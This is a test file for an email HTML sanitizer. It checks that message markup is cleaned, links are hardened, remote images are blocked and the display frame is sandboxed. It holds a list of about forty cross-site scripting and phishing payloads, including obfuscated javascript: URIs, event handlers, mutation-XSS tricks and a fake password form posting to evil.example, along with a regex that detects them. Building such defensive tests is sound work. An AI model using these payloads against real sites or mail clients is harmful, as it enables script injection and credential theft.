import { expect, test } from 'vitest';
import { FRAME_HEADERS, renderMessageFrame } from './frame.ts';
import { sanitizeMail } from './sanitize.ts';

const pictures = (contentId: string) => (contentId === 'logo@mail' ? '/api/attachments/7' : null);
const clean = (html: string) => sanitizeMail(html, pictures);

const HOSTILE = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<body onload=alert(1)>',
  '<svg onload=alert(1)><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x></svg>',
  '<math><mtext><mglyph><style><img src=x onerror=alert(1)></style></mglyph></mtext></math>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href=" data:text/html;base64,PHNjcmlwdD4=">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="evil.swf"></object><embed src="evil.swf">',
  '<form action="https://evil.example"><input name=password><button>Sign in</button></form>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<style>body{background:url(https://evil.example/x)}</style>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<div style="background-image:url(https://evil.example/pixel)">x</div>',
  '<div style="width:expression(alert(1))">x</div>',
  '<div style="position:fixed;top:0;left:0;z-index:9999">x</div>',
  '<div style="behavior:url(x.htc);-moz-binding:url(x)">x</div>',
  '<table background="https://evil.example/pixel"><tr><td>x</td></tr></table>',
  '<video src="https://evil.example/v" onerror=alert(1)></video><audio src=x></audio>',
  '<img srcset="https://evil.example/pixel 1x" src=x>',
  '<input type=image src="https://evil.example/pixel">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<template><script>alert(1)</script></template>',
  '<!--[if IE]><script>alert(1)</script><![endif]-->',
  '<p id="session" class="admin" data-x="1" onclick="alert(1)">x</p>',
  '<a href="https://ok.example" target="_top" ping="https://evil.example">x</a>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<details open ontoggle=alert(1)>x</details>',
  '<select><option><style></option></select><img src=x onerror=alert(1)></style>',
];
// what a browser reads where a filter sees something else
const plain = (html: string) => html.replaceAll('&#106;', 'j').replaceAll('\t', '');
const DANGER =
  /<\s*(?:script|iframe|object|embed|form|input|button|meta|base|link|style|svg|math|video|audio|template|noscript|body|marquee|details|select)\b|\son\w+\s*=|javascript:|vbscript:|data:text|expression\(|url\(|position|behavior|binding|srcset|ping=|background=|\s(?:id|class|data-x)=|src="?x/i;

test.each(HOSTILE)('nothing that acts is left of %s', (html) => {
  expect(plain(html)).toMatch(DANGER);
  expect(plain(clean(`<p>before</p>${html}<p>after</p>`))).not.toMatch(DANGER);
});

test('what people mean to say stays', () => {
  const html = '<p>Dobar dan, <b>slušalice</b> su <i style="color: red">pukle</i>.</p><ul><li>jedan</li></ul>';
  expect(clean(html)).toBe(
    '<p>Dobar dan, <b>slušalice</b> su <i style="color:red">pukle</i>.</p><ul><li>jedan</li></ul>',
  );
});

test('a link opens elsewhere and tells nothing about where it was clicked', () => {
  expect(clean('<a href="https://bura.example/a?b=1" target="_self">order</a>')).toBe(
    '<a href="https://bura.example/a?b=1" target="_blank" rel="noopener noreferrer nofollow">order</a>',
  );
});

test('a picture inside the mail is served by Belay, one from outside is kept back', () => {
  expect(clean('<img src="cid:logo@mail" alt="logo">')).toBe('<img alt="logo" src="/api/attachments/7" />');
  expect(clean('<img src="cid:unknown" alt="gone">')).toBe('<img alt="gone" />');
  expect(clean('<img src="https://shop.example/pixel.gif">')).toBe(
    '<img data-blocked-src="https://shop.example/pixel.gif" />',
  );
  expect(clean('<img src="/api/sign-out">')).toBe('<img />');
});

test('as many nested tags as a mail may hold neither hang nor show', () => {
  const deep = `${'<div>'.repeat(20_000)}hello${'</div>'.repeat(20_000)}`;
  expect(clean(deep).match(/<div>/g)?.length).toBeLessThanOrEqual(101);
});

test('the page of a mail runs nothing and loads nothing from outside', () => {
  expect(renderMessageFrame('<script>1</script><p>Hello</p>', pictures)).toContain('<body><p>Hello</p></body>');
  expect(FRAME_HEADERS['content-security-policy']).toMatch(/^default-src 'none'; .*sandbox allow-popups /);
  expect(FRAME_HEADERS['content-security-policy']).not.toMatch(
    /allow-scripts|allow-same-origin|script-src|allow-forms|allow-top/,
  );
});
